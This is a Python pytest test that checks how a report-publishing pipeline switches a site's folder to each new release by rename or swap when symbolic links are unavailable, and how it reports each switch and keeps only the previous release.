def test_where_links_cannot_be_made_the_site_folder_is_switched_whole_and_says_how(tmp_path, monkeypatch):
    """On vfat or SMB (simulated: symlink answers EPERM) the site's folder is a folder of its own, switched
    to each release in one rename (the two swapped), and the publication says so; a file system that cannot
    swap two folders moves the old one aside first."""
    import errno

    from interlink_pipeline.core.publish import publication

    def no_links(*_args, **_kwargs):
        raise PermissionError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(publication.os, "symlink", no_links)
    folder = tmp_path / "shop.example"
    switches = []
    for run, text in (("run-1", "first"), ("run-2", "second"), ("run-3", "third")):
        staged = staged_folder(folder, run)
        staged.mkdir(parents=True)
        (staged / "report.html").write_text(text)
        if run == "run-1":
            (staged / "link_plan.csv").write_text("kept from the first")
        if run == "run-3":  # this file system cannot swap two folders either
            monkeypatch.setattr(publication, "_exchange", lambda *_: no_links())
        switches.append(publish(folder, run, {"site": "shop.example"}).switch)
        assert folder.is_dir() and not folder.is_symlink()
        assert (folder / "report.html").read_text() == text and read_manifest(folder)["run_id"] == run
        assert (
            folder / "link_plan.csv"
        ).read_text() == "kept from the first"  # linked in from the one before
    assert [s.split(";")[1].strip() for s in switches] == [
        "the release was moved into place in one rename",
        "the folder and the release swapped in one rename",
        "the folder was moved aside and the release moved in (a reader may have found it missing for an "
        "instant)",
    ]
    # the release before the published one stays (a reader may hold it open); older ones are removed
    assert sorted(p.name for p in release_root(folder).iterdir()) == ["run-2"]
